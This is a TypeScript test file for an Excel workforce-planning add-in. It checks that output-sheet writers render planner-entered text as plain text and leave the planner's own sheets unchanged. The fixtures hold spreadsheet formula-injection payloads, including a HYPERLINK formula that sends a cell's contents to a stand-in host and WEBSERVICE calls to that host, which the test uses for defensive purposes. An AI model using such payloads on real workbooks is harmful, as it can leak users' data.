import { readdirSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { registerWfpFunctions } from "../../engine/hyperformula.ts";
import { loadMetadata } from "../../engine/metadata.ts";
import { Workbook } from "../../engine/workbook.ts";
import { runScenario, scenarioFromTables, type ScenarioInput, type ScenarioResult } from "../../src/index.ts";
import { installExcelGlobals } from "../../excelHost/index.ts";
import { addPlanTable, readLinkedTables } from "../workbench/plan.ts";
import { OUTPUT_WRITERS } from "./writers.ts";

/*
 * Every output sheet's writer, from the one list: text from a planner's
 * tables never becomes a formula, no cell outside wfplan's sheets changes,
 * and a sheet wfplan owns is replaced on the next write, not taken for one
 * the planner edited (every value written is in its fingerprint).
 */

const HOSTILE = ['=HYPERLINK("http://x/?"&Staff!A2,"Nursing")', "+1+1", "-2+3", "@SUM(1,1)"];
let model: Workbook;
let input: ScenarioInput;
let result: ScenarioResult;
beforeAll(async () => {
  registerWfpFunctions(await loadMetadata());
  model = new Workbook("Staff");
  addPlanTable(model, "Staff", "tblStaff", [["Staff group", "Band", "Contracted hours"], ...HOSTILE.map((g) => [g, "Band 5", 37.5])]);
  addPlanTable(model, "Activity", "tblActivity", [
    ["Service line", "Total"],
    ['=WEBSERVICE("http://x")', 20000],
  ]);
  addPlanTable(model, "Standards", "tblStandards", [
    ["Service line", "Staff group", "Minutes per unit"],
    ...HOSTILE.map((g) => ['=WEBSERVICE("http://x")', g, 200]),
  ]);
  installExcelGlobals(model);
  input = scenarioFromTables(await readLinkedTables(), { name: "@Plan", startYear: "2025/26", horizonYears: 2, activityGrowth: 0.03 });
  result = runScenario(input);
});
afterAll(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
});

const formulasOn = (sheet: string) => {
  const used = model.usedRange(sheet);
  return used
    ? model
        .formulas(sheet, used)
        .flat()
        .filter((cell): cell is string => typeof cell === "string" && cell.startsWith("="))
    : [];
};
const snapshot = (sheets: readonly string[]) => sheets.map((sheet) => model.formulas(sheet, model.usedRange(sheet)!));

describe("every output sheet's writer", () => {
  it("is on the list the safety tests loop over, and writes cells only through the SheetWriter", () => {
    const dir = "taskpane/adapter";
    const files = readdirSync(dir).filter((f) => f.endsWith(".ts"));
    const writing = files.filter((f) => readFileSync(`${dir}/${f}`, "utf8").includes("new SheetWriter("));
    expect(writing.map((f) => `${dir}/${f}`).sort()).toEqual([...new Set(OUTPUT_WRITERS.map((w) => w.module))].sort());
    // Values reach a cell through the SheetWriter; the stores write their own hidden sheets, each string as text.
    const stores = ["sheetWriter.ts", "scenarioStore.ts", "linkStore.ts", "outputSheets.ts", "appendRows.ts"];
    const direct = files.filter((f) => !stores.includes(f) && /\.(values|formulas) = /.test(readFileSync(`${dir}/${f}`, "utf8")));
    expect(direct).toEqual([]);
  });

  for (const writer of OUTPUT_WRITERS) {
    it(`${writer.name}: writes the planner's text as text and changes nothing of theirs`, async () => {
      const mine = ["Staff", "Activity", "Standards"];
      const before = snapshot(mine);
      const { sheet } = await writer.write(result, input);
      expect(snapshot(mine)).toEqual(before);
      if (writer.formulas) expect(formulasOn(sheet).every((f) => f.startsWith("=WFP."))).toBe(true);
      else {
        expect(formulasOn(sheet), sheet).toEqual([]);
        const text = model.values(sheet, model.usedRange(sheet)!).flat();
        // A writer that names the staff groups names them as they were typed.
        if (text.some((v) => typeof v === "string" && v.includes("HYPERLINK"))) expect(text).toContain(HOSTILE[0]);
      }
    });
    if (writer.owned)
      it(`${writer.name}: replaces its own sheet on the next write, not taking it for an edited one`, async () => {
        const first = await writer.write(result, input);
        const again = await writer.write(result, input);
        expect(again).toEqual({ sheet: first.sheet });
      });
  }
});
